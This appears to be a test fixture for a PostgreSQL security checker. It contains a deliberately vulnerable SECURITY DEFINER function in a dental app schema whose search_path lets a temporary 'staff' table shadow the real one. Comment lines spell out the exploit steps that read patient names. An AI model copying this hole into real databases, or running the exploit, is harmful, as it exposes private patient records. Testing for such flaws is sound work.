-- The lookup is made faster in another language and loses its path: a temporary table takes the place of
-- staff.
-- about: my_practices
-- as: hf_dental_app
-- exploit: SET request.jwt.claims = '{"sub": "ua"}';
-- exploit: CREATE TEMP TABLE staff (practice_id bigint, user_id text);
-- exploit: INSERT INTO staff VALUES (502, 'ua');
-- exploit: GRANT SELECT ON staff TO PUBLIC;
-- exploit: SELECT name FROM dental.patients;
-- shows: Pat-secret
CREATE OR REPLACE FUNCTION dental.my_practices() RETURNS bigint[]
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = pg_catalog, pg_temp, dental AS $$
BEGIN
  RETURN coalesce((SELECT array_agg(s.practice_id) FROM staff s WHERE s.user_id = who()), '{}');
END $$;
